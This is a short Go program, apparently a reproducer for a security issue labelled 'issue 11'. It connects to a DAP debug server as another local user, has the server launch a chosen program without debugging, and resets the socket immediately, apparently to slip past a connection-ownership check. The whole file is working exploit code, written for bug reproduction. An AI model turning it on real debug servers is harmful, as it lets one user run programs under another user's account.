// Otheruser plays the other local user of issue 11: it connects to a DAP
// server at ADDR, sends initialize, a launch of PROGRAM without debugging
// and a run of threads requests, then resets the connection (SO_LINGER
// {1, 0}) so that its socket leaves the kernel's table at once.
//
// Usage: otheruser ADDR PROGRAM
package main

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: otheruser ADDR PROGRAM")
		os.Exit(2)
	}
	if err := run(os.Args[1], os.Args[2]); err != nil {
		fmt.Fprintf(os.Stderr, "otheruser: %v\n", err)
		os.Exit(1)
	}
}

func run(addr, program string) error {
	var out []byte
	seq := 0
	add := func(command string, args any) {
		seq++
		body, _ := json.Marshal(map[string]any{"seq": seq, "type": "request", "command": command, "arguments": args})
		out = fmt.Appendf(out, "Content-Length: %d\r\n\r\n%s", len(body), body)
	}
	add("initialize", map[string]any{"adapterID": "go"})
	add("launch", map[string]any{"mode": "exec", "program": program, "noDebug": true})
	for range 50 {
		add("threads", nil)
	}
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return err
	}
	tc := c.(*net.TCPConn)
	if _, err := tc.Write(out); err != nil {
		return fmt.Errorf("writing the requests: %w", err)
	}
	if err := tc.SetLinger(0); err != nil {
		return fmt.Errorf("setting SO_LINGER: %w", err)
	}
	return tc.Close()
}
